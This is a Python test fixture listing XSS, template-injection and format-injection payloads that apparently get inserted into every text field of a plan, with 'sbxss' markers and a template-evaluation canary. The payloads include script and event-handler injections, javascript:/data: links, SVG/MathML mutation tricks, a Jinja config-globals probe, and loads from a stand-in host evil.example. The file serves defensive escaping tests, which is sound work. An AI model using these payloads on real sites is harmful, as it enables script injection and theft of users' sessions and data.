"""Hostile text for the XSS tests: each payload is placed in every text field of a plan.

Payloads that would run script say `sbxss` where they can, so a test can spot them anywhere
(script text, handler attributes, URLs). `TEMPLATE_PRODUCT` is what `{{ 12345*11111 }}` would
print if any template engine evaluated plan text: it must appear nowhere.
"""

TEMPLATE_PRODUCT = str(12345 * 11111)  # 137170795

PAYLOADS = [
    # --- script tags ------------------------------------------------------------------------
    "<script>alert('sbxss')</script>",
    "<SCRIPT SRC=https://evil.example/sbxss.js></SCRIPT>",
    "<scr<script>ipt>alert('sbxss')</scr</script>ipt>",
    "\"><script>alert('sbxss')</script>",
    "</script><script>alert('sbxss')</script>",
    "<script/xss src=//evil.example/sbxss.js></script>",
    "<<script>alert('sbxss');//<</script>",
    # --- event handlers -----------------------------------------------------------------------
    "<img src=x onerror=alert('sbxss')>",
    "<body onload=alert('sbxss')>",
    "<div onmouseover=\"alert('sbxss')\">hover me</div>",
    "<input autofocus onfocus=alert('sbxss')>",
    "<details open ontoggle=alert('sbxss')>",
    "<video><source onerror=\"alert('sbxss')\"></video>",
    '<img src="x" onerror="&#97;lert(\'sbxss\')">',
    "<a onclick=alert('sbxss')>click</a>",
    "<style>@import 'https://evil.example/sbxss.css';</style>",
    "<div style=\"background:url(javascript:alert('sbxss'))\">styled</div>",
    "<img srcset=\"x 1x, javascript:alert('sbxss') 2x\">",
    "<iframe srcdoc=\"<script>alert('sbxss')</script>\"></iframe>",
    # --- attribute and element breakouts -----------------------------------------------------
    "\" onmouseover=\"alert('sbxss')",
    "' onfocus='alert(\"sbxss\")' autofocus '",
    "\"><img src=x onerror=alert('sbxss')>",
    "' /><svg onload=alert('sbxss')>",
    "`><script>alert('sbxss')</script>",
    "</title><script>alert('sbxss')</script>",
    "</textarea><script>alert('sbxss')</script>",
    "</style><script>alert('sbxss')</script>",
    "--><script>alert('sbxss')</script><!--",
    "<!--<img src=\"--><img src=x onerror=alert('sbxss')//\">",
    "]]><script>alert('sbxss')</script><![CDATA[",
    "<![CDATA[<script>alert('sbxss')</script>]]>",
    "</noscript><script>alert('sbxss')</script>",
    # --- javascript:, data: and vbscript: links ----------------------------------------------
    "[click me](javascript:alert('sbxss'))",
    "[click](JaVaScRiPt:alert('sbxss'))",
    "[click](java&#x73;cript:alert('sbxss'))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgnc2J4c3MnKTwvc2NyaXB0Pg==)",
    '[click](vbscript:msgbox("sbxss"))',
    "<a href=\"javascript&colon;alert('sbxss')\">entity colon</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('sbxss')\">x</a>",
    "<a href=\"jav&#x09;ascript:alert('sbxss')\">tab</a>",
    "<a href=\"java\nscript:alert('sbxss')\">newline</a>",
    "<a href=\" \x01javascript:alert('sbxss')\">control</a>",
    "<iframe src=\"javascript:alert('sbxss')\"></iframe>",
    "<form action=\"javascript:alert('sbxss')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('sbxss')\">x</button>",
    "<object data=\"data:text/html,<script>alert('sbxss')</script>\"></object>",
    "<embed src=\"data:image/svg+xml,<svg onload=alert('sbxss')>\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'sbxss\')">',
    "<base href=\"javascript:alert('sbxss')//\">",
    "<link rel=stylesheet href=https://evil.example/sbxss.css>",
    # --- Markdown link and image forms --------------------------------------------------------
    "![sbxss](javascript:alert('sbxss'))",
    '![tracker](https://evil.example/sbxss.png "title")',
    "![x](x\" onerror=\"alert('sbxss'))",
    "[ref]: javascript:alert('sbxss')\n\n[click][ref]",
    "<javascript:alert('sbxss')>",
    "[x](https://example.com/\" onmouseover=\"alert('sbxss'))",
    "[<img src=x onerror=alert('sbxss')>](https://example.com/)",
    "[x](<javascript:alert('sbxss')>)",
    "[![img](javascript:alert('sbxss'))](javascript:alert('sbxss'))",
    "```\n</code></pre><script>alert('sbxss')</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert('sbxss')</script> | <img src=x onerror=alert('sbxss')> |",
    # --- SVG and MathML -------------------------------------------------------------------------
    "<svg><script>alert('sbxss')</script></svg>",
    '<svg><a xlink:href="javascript:alert(\'sbxss\')"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert('sbxss') attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(\'sbxss\')"/></svg>',
    "<svg><style><img src=x onerror=alert('sbxss')></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('sbxss')>",
    "<math href=\"javascript:alert('sbxss')\">CLICKME</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('sbxss')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('sbxss')>\">",
    # --- template syntax (Jinja, MkDocs macros, others) ----------------------------------------
    "{{7*7}}",
    "{{ 12345*11111 }}",
    "{% for i in range(3) %}sbxss{% endfor %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{{ undefined_name.attr }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{# comment #}{% raw %}raw{% endraw %}",
    # --- entities and encodings ---------------------------------------------------------------
    "&lt;script&gt;alert('sbxss')&lt;/script&gt;",
    "&#60;script&#62;alert('sbxss')&#60;/script&#62;",
    "%3Cscript%3Ealert('sbxss')%3C/script%3E",
    "\\u003cscript\\u003ealert('sbxss')\\u003c/script\\u003e",
    "+ADw-script+AD4-alert('sbxss')+ADw-/script+AD4-",
    # --- unicode tricks -------------------------------------------------------------------------
    "\uff1cscript\uff1ealert('sbxss')\uff1c/script\uff1e",
    "[click](java\u200bscript:alert('sbxss'))",
    "invoice\u202egnp.exe",
    "line\u2028separator\u2029paragraph </script>",
    "\ufeff<script>alert('sbxss')</script>",
    "<scr\x00ipt>alert('sbxss')</scr\x00ipt>",
    "vertical\x0btab\x0cform\x1bescape",
    # --- other formats the site writes (Atom, ICS, JSON) -----------------------------------------
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:sbxss injected\r\nEND:VEVENT",
    '"}]}, {"injected": "sbxss',
    '<?xml-stylesheet href="https://evil.example/sbxss.xsl"?>',
]

assert len(PAYLOADS) >= 50 and len(set(PAYLOADS)) == len(PAYLOADS)
